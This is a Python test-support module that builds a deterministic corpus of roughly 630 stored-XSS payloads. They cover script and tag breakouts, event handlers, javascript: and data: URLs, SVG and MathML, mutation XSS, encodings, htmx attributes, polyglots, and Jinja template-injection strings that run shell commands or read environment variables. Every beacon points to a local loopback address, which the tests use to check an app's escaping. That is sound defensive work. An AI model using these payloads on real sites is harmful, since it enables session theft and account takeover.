"""The stored-XSS corpus: over 500 base payloads generated from the well-known public
categories (written here, nothing downloaded): script and tag breakouts, an event handler on
every HTML element and every handler on some element, javascript:/data:/vbscript: URLs in
every attribute that takes one, SVG and MathML, mutation XSS, entity and Unicode escapes, NUL
and control characters, CSS, htmx attributes, template injection, markdown links, polyglots
and very long payloads; every fifth of them also put behind a breakout context. `vectors()`
holds 630 distinct strings, in the same order on every run.

A payload that ever ran would raise a dialog, bump `window.__xss` (in its frame or the top
one), throw, or request the loopback marker `BEACON`; a payload that only got its markup
through leaves an element or attribute the templates never render (the tests look for both).
"""

from __future__ import annotations

import base64
from functools import cache

JS_MARK = "window.__xss=(window.__xss||0)+1"
# Nothing listens there: the browser tests route this origin and count what reaches it.
BEACON_ORIGIN = "http://127.0.0.1:63999"
BEACON = f"{BEACON_ORIGIN}/xss-beacon"
_B64 = base64.b64encode(JS_MARK.encode()).decode()

# Ways a script might call home. Single quotes only, so each fits in a double-quoted attribute.
JS = (
    JS_MARK,
    "alert(1)",
    "top.__xss=1",
    "confirm(document.domain)",
    f"fetch('{BEACON}/fetch')",
    f"eval(atob('{_B64}'))",
    "self['al'+'ert'](2)",
    "prompt`3`",
    f"setTimeout('{JS_MARK}')",
    f"Function('{JS_MARK}')()",
    f"import('{BEACON}/import.js')",
    f"navigator.sendBeacon('{BEACON}/beacon')",
    f"new Image().src='{BEACON}/img'",
    "window['__x'+'ss']=1",
    "\\u0061lert(4)",
    f"[].constructor.constructor('{JS_MARK}')()",
    f"location='{BEACON}/location'",
    "parent.__xss=1",
    "onerror=alert;throw 5",
    f"document.body.append(Object.assign(document.createElement('img'),{{src:'{BEACON}/dom'}}))",
)

# Elements of HTML (and a few of SVG and MathML), each given an event handler below.
_ELEMENTS = """a abbr address area article aside audio b base bdi bdo blockquote body br button
canvas caption cite code col colgroup data datalist dd del details dfn dialog div dl dt em embed
fieldset figcaption figure footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr
html i iframe img input ins kbd label legend li link main map mark marquee menu meta meter nav
noscript object ol optgroup option output p param picture pre progress q rp rt ruby s samp
script search section select slot small source span strong style sub summary sup table tbody td
template textarea tfoot th thead time title tr track u ul var video wbr xmp listing plaintext
image isindex keygen applet bgsound blink nobr spacer math svg animate set foreignobject"""
ELEMENTS = _ELEMENTS.split()

# Event handler content attributes (every one HTML defines, plus a few of SVG and old IE).
_EVENTS = """abort afterprint animationend animationiteration animationstart auxclick
beforecopy beforecut beforeinput beforematch beforeprint beforetoggle beforeunload begin blur
cancel canplay canplaythrough change click close contentvisibilityautostatechange contextlost
contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave
dragover dragstart drop durationchange emptied end ended error focus focusin focusout
formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup
load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter
mouseleave mousemove mouseout mouseover mouseup pagehide pagereveal pageshow paste pause play
playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend
search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange
stalled storage submit suspend timeupdate toggle touchstart transitionend transitionrun
transitionstart unload volumechange waiting webkitanimationstart wheel readystatechange"""
EVENTS = _EVENTS.split()

_FIRES = 'autofocus tabindex=1 popover id=x style="animation:spin 1s;display:block"'
_URL_ATTRIBUTES = """href src action formaction data srcdoc xlink:href poster background
lowsrc dynsrc ping cite codebase manifest icon profile longdesc usemap"""
URL_ATTRIBUTES = _URL_ATTRIBUTES.split()
SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "java\x00script:{js}",
    "\x01javascript:{js}",
    "&#106;avascript:{js}",
    "&#x6A;&#x61;&#x76;&#x61;script:{js}",
    "&#0000106&#0000097vascript:{js}",
    "jav&#x09;ascript:{js}",
    "javascript&colon;{js}",
    "%6Aavascript:{js}",
    "javascript://%0a{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload='{js}'/>",
    "vbscript:msgbox(1)",
    'VBScript:Execute("x")',
    f"{BEACON}/url",
)


def _element_vectors() -> list[str]:
    """Every element with a handler, and every handler on some element."""
    out = []
    for i, tag in enumerate(ELEMENTS):
        event = EVENTS[(i * 7) % len(EVENTS)]
        js = JS[i % len(JS)]
        out.append(f'<{tag} {_FIRES} on{event}="{js}" src=x href=#>x</{tag}>')
    for i, event in enumerate(EVENTS):
        tag = ELEMENTS[(i * 11 + 3) % len(ELEMENTS)]
        js = JS[(i + 5) % len(JS)]
        out.append(f"<{tag} on{event}={js.replace(' ', '/')} autofocus>")
    return out


def _url_vectors() -> list[str]:
    """javascript:, data: and vbscript: in every attribute that takes a URL, obfuscated."""
    tags = ("a", "iframe", "form", "button", "object", "embed", "img", "video", "base", "area")
    out = []
    for i, attribute in enumerate(URL_ATTRIBUTES):
        tag = tags[i % len(tags)]
        for j in range(3):
            scheme = SCHEMES[(i * 3 + j) % len(SCHEMES)].format(js=JS[(i + j) % len(JS)])
            out.append(f'<{tag} {attribute}="{scheme}">link</{tag}>')
    for i, scheme in enumerate(SCHEMES):
        js = JS[i % len(JS)]
        out.append(f"<a href={scheme.format(js=js).replace(' ', '%20')}>click</a>")
    return out


def _fixed_vectors() -> list[str]:
    j = JS_MARK
    return [
        # script elements
        f"<script>{j}</script>",
        f"<SCRIPT>{j}</SCRIPT>",
        f"<script src={BEACON}/script.js></script>",
        f"<script/xss>{j}</script>",
        f"<script\n>{j}</script\n>",
        f"<script type=module>{j}</script>",
        f"<script>/*</script>*/{j}</script>",
        f"<scr<script>ipt>{j}</scr</script>ipt>",
        f"<<script>{j}//<</script>",
        f'<script>"</script><script>{j}</script>',
        f"</script><script>{j}</script>",
        "<script>alert(document.cookie)</script>",
        f"<script src=data:,{j}></script>",
        f"<script>{j}",
        # images and media
        f'<img src=x onerror="{j}">',
        "<img src=x onerror=alert(1)>",
        f"<img src=x onerror={j}//",
        f"<img/src=x/onerror={j}>",
        f'<img src="x` `<script>{j}</script>"` `>',
        f'<img srcset="x 1x" onerror="{j}">',
        f"<img src={BEACON}/img-tag>",
        f'<video><source onerror="{j}"></video>',
        f'<audio src=x onerror="{j}">',
        f"<video poster=javascript:{j}//></video>",
        f'<input type=image src=x onerror="{j}">',
        f'<body onload="{j}">',
        '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
        f'<iframe src="javascript:{j}"></iframe>',
        f"<iframe onload={j}></iframe>",
        f'<object data="javascript:{j}"></object>',
        f'<embed src="javascript:{j}">',
        f'<meta http-equiv="refresh" content="0;url=javascript:{j}">',
        f'<meta http-equiv="refresh" content="0;url={BEACON}/meta">',
        f'<base href="{BEACON}/"><script src=x.js></script>',
        f'<link rel=stylesheet href="{BEACON}/link.css">',
        f'<link rel=import href="{BEACON}/import.html">',
        f'<form><button formaction="javascript:{j}">go</button></form>',
        f'<form action="javascript:{j}"><input type=submit></form>',
        f'<form id=f></form><button form=f formaction="javascript:{j}">x</button>',
        f'<isindex type=image src=1 onerror="{j}">',
        f'<details open ontoggle="{j}">',
        f'<input autofocus onfocus="{j}">',
        f'<select autofocus onfocus="{j}"></select>',
        f'<textarea autofocus onfocus="{j}"></textarea>',
        f'<marquee onstart="{j}">x</marquee>',
        f'<div popover id=p onbeforetoggle="{j}">x</div><button popovertarget=p>b</button>',
        f'<a id=x tabindex=1 onfocus="{j}"></a>',
        f'<xss onfocus="{j}" autofocus tabindex=1>',
        f"<a href=javascript:{j} id=xss-link>link</a>",
        # SVG
        f'<svg onload="{j}">',
        f"<svg/onload={j}>",
        f"<svg><script>{j}</script></svg>",
        f"<svg><script href=data:,{j} />",
        f'<svg><animate onbegin="{j}" attributeName=x dur=1s>',
        f'<svg><set attributeName=onmouseover to="{j}"/>',
        f'<svg><animate attributeName=href values="javascript:{j}"/><a><text>x</text></a></svg>',
        f'<svg><a xlink:href="javascript:{j}"><text x=20 y=20>x</text></a></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={j}>#x"/></svg>',
        '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"/></svg>',
        f'<svg><image href=x onerror="{j}"/></svg>',
        f'<svg><style>@import "{BEACON}/svg.css";</style></svg>',
        f"<svg><title><script>{j}</script></title></svg>",
        f"<svg><desc><![CDATA[</desc><script>{j}</script>]]></svg>",
        f'<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event=load>{j}</handler>',
        # MathML
        f'<math><mtext><table><mglyph><style><img src=x onerror="{j}">',
        f'<math href="javascript:{j}">x</math>',
        f'<math><maction actiontype=statusline xlink:href="javascript:{j}">x</maction></math>',
        f'<math><mi xlink:href="javascript:{j}">x</mi></math>',
        f"<math><style><img src=x onerror={j}></style></math>",
        f'<math><mtext><h1><a href="javascript:{j}">x</a></h1></mtext></math>',
        # mutation XSS: raw-text, RCDATA and foreign-content breakouts
        f'<noscript><p title="</noscript><img src=x onerror={j}>">',
        f"<template><img src=x onerror={j}></template>",
        f"<style><img src=x onerror={j}></style>",
        f"<style></style><img src=x onerror={j}>",
        f"<textarea><img src=x onerror={j}></textarea>",
        f"</textarea><img src=x onerror={j}>",
        f"</title><img src=x onerror={j}>",
        f"<title></title><script>{j}</script>",
        f"<xmp></xmp><img src=x onerror={j}>",
        f'<noembed><img title="</noembed><img src=x onerror={j}>"></noembed>',
        f'<noframes><img title="</noframes><img src=x onerror={j}>"></noframes>',
        f'<iframe><img title="</iframe><img src=x onerror={j}>"></iframe>',
        f"<plaintext></plaintext><img src=x onerror={j}>",
        f"<select><template><img src=x onerror={j}></template></select>",
        f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{j}">',
        f'<svg></p><style><a id="</style><img src=1 onerror={j}>">',
        f'<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror={j} src>">',
        f"<!--><img src=x onerror={j}>-->",
        f"<!-- --!><img src=x onerror={j}>-->",
        f'<!--<img src="--><img src=x onerror={j}//">',
        f"<![CDATA[><img src=x onerror={j}>]]>",
        f'<?xml version="1.0"?><img src=x onerror={j}>',
        f'<a title="`"><img src=x onerror={j}>`">',
        '<div id="x"></div><script>document.getElementById("x").innerHTML='
        f'"<img src=x onerror={j}>"</script>',
        # CSS
        f'<div style="background:url(javascript:{j})">x</div>',
        f'<div style="width:expression({j})">x</div>',
        f"<div style=\"background-image:url('{BEACON}/css-url')\">x</div>",
        f'<style>*{{background:url("{BEACON}/css")}}</style>',
        f"<style>@import '{BEACON}/import.css';</style>",
        f"<style>@import 'javascript:{j}';</style>",
        '<div style="behavior:url(#default#time2)">x</div>',
        '<div style="-moz-binding:url(x.xml#xss)">x</div>',
        f"<style>@keyframes spin{{}}</style><div style=animation-name:spin onanimationstart={j}>",
        f'<p style="x:\\65 xpression({j})">x</p>',
        # htmx attributes
        f'<div hx-get="{BEACON}/hx-get" hx-trigger="load">x</div>',
        '<div hx-post="/logout" hx-trigger="load">x</div>',
        f'<button hx-on:click="{j}">x</button>',
        f'<div hx-on:htmx:load="{j}">x</div>',
        f'<div hx-on::load="{j}">x</div>',
        f'<div hx-on="htmx:load: {j}">x</div>',
        f'<div hx-vals=\'js:{{a:{j}}}\' hx-post="/x" hx-trigger="load">x</div>',
        f'<div hx-vals="javascript:{j}" hx-get="/x" hx-trigger="revealed">x</div>',
        f'<div hx-trigger="every 1s" hx-get="{BEACON}/every">x</div>',
        f'<div data-hx-get="{BEACON}/data-hx" data-hx-trigger="load">x</div>',
        f'<form hx-post="{BEACON}/hx-form" hx-trigger="load"></form>',
        '<div hx-get="/inbox" hx-trigger="load" hx-target="body" hx-swap="outerHTML">x</div>',
        f'<a hx-boost="true" href="javascript:{j}">x</a>',
        f'<div hx-headers=\'js:{{"X":{j}}}\' hx-get="/x" hx-trigger="load">x</div>',
        f'<hx-partial hx-target="body"><img src=x onerror="{j}"></hx-partial>',
        f'<div hx-swap-oob="true" id="alerts"><img src=x onerror="{j}"></div>',
        f"<div id=composer-body hx-swap-oob=outerHTML><script>{j}</script></div>",
        '<div hx-get="/inbox" hx-trigger="load" hx-select="script">x</div>',
        f'<div x-data x-init="{j}">alpine</div>',
        f"<div ng-app>{{{{constructor.constructor('{j}')()}}}}</div>",
        # template injection (Jinja and friends): must show verbatim, never evaluate
        "{{7*7}}",
        "{{ 7*'7' }}",
        "{% raw %}<b>template</b>{% endraw %}",
        "{% for x in range(3) %}{{x}}{% endfor %}",
        "{{ config }}{{ self }}{{ request }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ lipsum.__globals__.os.popen('id').read() }}",
        "{{ cycler.__init__.__globals__.os.environ }}",
        "{# unclosed comment",
        "{% include '/etc/passwd' %}",
        "{{ viewer.csrf }}{{ csrf_token }}",
        "${7*7}#{7*7}<%= 7*7 %>[[7*7]]@(7*7)",
        "{{{raw}}}{{&x}}{{=<% %>=}}",
        "{{'<script>'|safe}}" + j,
        "${{<%[%'\"}}%\\.",
        # entity and Unicode escapes: must show exactly as typed
        f"&lt;script&gt;{j}&lt;/script&gt;",
        f"&#60;img src=x onerror={j}&#62;",
        f"&#x3C;svg onload={j}&#x3E;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&lt;img src=x onerror=alert(1)",
        f"\\u003cscript\\u003e{j}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{j}\\x3c/script\\x3e",
        f"%3Cscript%3E{j}%3C%2Fscript%3E",
        f"%253Cscript%253E{j}",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        f"\uff1cscript\uff1e{j}\uff1c/script\uff1e",
        f"<scr\u200bipt>{j}</scr\u200bipt>",
        f"<\u017fcript>{j}</\u017fcript>",
        f"<\u0131mg src=x onerror={j}>",
        f"\u202e>tpircs/<{j}>tpircs<",
        f"\ufeff<script>{j}</script>",
        f"<img src=x one\u0301rror={j}>",
        "\u0000\u2028\u2029</script><script>alert(1)</script>",
        "e\u0301\u0301\u0301 zalgo \u0336<\u0336s\u0336c\u0336r\u0336i\u0336p\u0336t\u0336>",
        "\U0001f600<img src=x onerror=alert(1)>\U0001f4a9",
        # null bytes and control characters
        f"<scr\x00ipt>{j}</scr\x00ipt>",
        f"<img src=x onerror\x00={j}>",
        f"<img\x0csrc=x\x0conerror={j}>",
        f"<img\x0bsrc=x\x0bonerror={j}>",
        f"<svg\x0aonload={j}>",
        f"<svg\x0donload={j}>",
        f"\x00<script>{j}</script>",
        f'<a href="\x01javascript:{j}">x</a>',
        f'<a href="java\x0bscript:{j}">x</a>',
        "\x1b[31mred\x1b[0m\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
        "Subject: x\r\nSet-Cookie: xss=1\r\n\r\n<script>alert(1)</script>",
        "\x7f\x80\x85\x9f<b>c1 controls</b>",
        "\x08\x08\x08<script>alert(1)</script>",
        "line1\u2028line2\u2029</script><img src=x onerror=alert(1)>",
        # markdown-style links and images
        f"[click](javascript:{j})",
        f"![x](javascript:{j})",
        f"[a](data:text/html;base64,{_B64})",
        f"<javascript:{j}>",
        f"[a]: javascript:{j}\n[x][a]",
        f"**<img src=x onerror={j}>**",
        f"```html\n<script>{j}</script>\n```",
        f"[<img src=x onerror={j}>](#)",
        f'[x](#"onmouseover="{j})',
        f'[x]({BEACON}/md "title")',
        # polyglots
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        f"'\"--></style></script></title></textarea><svg/onload={j}>",
        f"\"'><img src=x onerror={j}><\"'",
        f"javascript:\"/*'/*`/*--></noscript></title></textarea></style></template>"
        f'</noembed></script><html " onmouseover=/*&lt;svg/*/onload={j}//>',
        f'-->\'"/></sCript><deTailS open x=">" ontoggle=({j})>',
        f"\"`'><script>{j}</script>",
        f"';{j}//\";{j}//--></SCRIPT>\">'><SCRIPT>{j}</SCRIPT>",
        f"<a href=\"'\"><img src=x onerror={j}>'>",
        # very long payloads
        "A" * 5000 + f"<script>{j}</script>",
        "<" * 3000 + "script>alert(1)",
        "<a>" * 600 + f"<img src=x onerror={j}>",
        f"<img src=x onerror={j}>" * 150,
        f'<div title="{"x" * 8000}" onclick="{j}">',
        '"' * 2000 + f"><script>{j}</script>",
        "&" * 2000 + "lt;script&gt;",
        "\u0000" * 500 + f"<script>{j}</script>",
        " ".join(["<b>"] * 1500),
        f"{'%' * 1000}3Cscript%3E{j}",
    ]


# Breakout contexts a stored value might meet: each base payload is also put behind one.
CONTEXTS = (
    '">{p}',
    "'>{p}",
    "</textarea></title></style></script></noscript></template></xmp>{p}",
    "--!>-->{p}<!--",
    "]]>{p}",
    "</span></div></td></tr></table></a></option></select>{p}",
    '" onmouseover="{js}" x="{p}',
    "' autofocus onfocus='{js}' x='{p}",
    "\u2028\u2029{p}",
    "`}}}}{p}",
    "</mark></q></code>{p}",
    "<![CDATA[{p}]]>",
)


WRAP_EVERY = 5


@cache
def vectors() -> tuple[str, ...]:
    """The corpus: every base payload, then every WRAP_EVERY-th one behind a context (the
    contexts by rotation); distinct."""
    bases = _fixed_vectors() + _element_vectors() + _url_vectors()
    out = dict.fromkeys(bases)
    for i, base in enumerate(bases[::WRAP_EVERY]):
        context = CONTEXTS[i % len(CONTEXTS)]
        out.setdefault(context.format(p=base, js=JS[i % len(JS)]))
    return tuple(out)


def sample(count: int) -> tuple[str, ...]:
    """`count` vectors spread evenly over the corpus (every category), the same every run."""
    every = vectors()
    step = max(1, len(every) // count)
    return every[::step][:count]
